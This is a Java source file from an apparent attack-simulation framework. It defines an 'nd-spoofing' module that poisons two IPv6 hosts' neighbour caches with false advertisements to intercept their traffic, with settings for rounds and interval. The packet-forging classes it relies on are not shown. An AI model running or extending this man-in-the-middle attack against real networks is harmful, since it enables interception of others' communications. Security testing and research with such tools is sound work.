package cofferdam.attacks.network;

import cofferdam.attacks.Adversary;
import cofferdam.attacks.Attack;
import cofferdam.attacks.Boundary;
import cofferdam.attacks.MissingCapabilityException;
import cofferdam.attacks.Setting;

import java.time.Duration;
import java.util.List;

/**
 * Tells each of two victims by neighbour advertisements that override what is known (RFC 4861) that
 * the other is at the attacker, and forwards what then comes in: ARP poisoning's counterpart.
 */
public final class NdSpoofing implements Attack {

    private static final Victims VICTIMS = new Victims(2, 2);

    private static final Setting.Count ROUNDS = new Setting.Count(
            "rounds", "how often both are told before they should have believed it", 3, 1, 60);

    private static final Setting.Span INTERVAL = new Setting.Span(
            "interval",
            "time between two rounds",
            Duration.ofSeconds(1),
            Duration.ofMillis(100),
            Duration.ofMinutes(1));

    @Override
    public String name() {
        return "nd-spoofing";
    }

    @Override
    public String summary() {
        return "gets between two machines by false IPv6 neighbour advertisements";
    }

    @Override
    public Boundary boundary() {
        return Boundary.NETWORK;
    }

    @Override
    public List<Setting> settings() {
        return List.of(ROUNDS, INTERVAL);
    }

    @Override
    public Victims victims() {
        return VICTIMS;
    }

    @Override
    public Campaign start(Adversary adversary) throws MissingCapabilityException {
        Foothold foothold = Foothold.take(this, adversary, Foothold.MAXIMUM_FRAMES);
        AddressResolution victims = new AddressResolution(foothold);
        DiscoveryCampaign campaign = new DiscoveryCampaign(
                foothold,
                victims,
                new NeighbourLies(foothold, victims),
                adversary.settings().count(ROUNDS.name()),
                adversary.settings().span(INTERVAL.name()));
        campaign.begin();
        return campaign;
    }
}
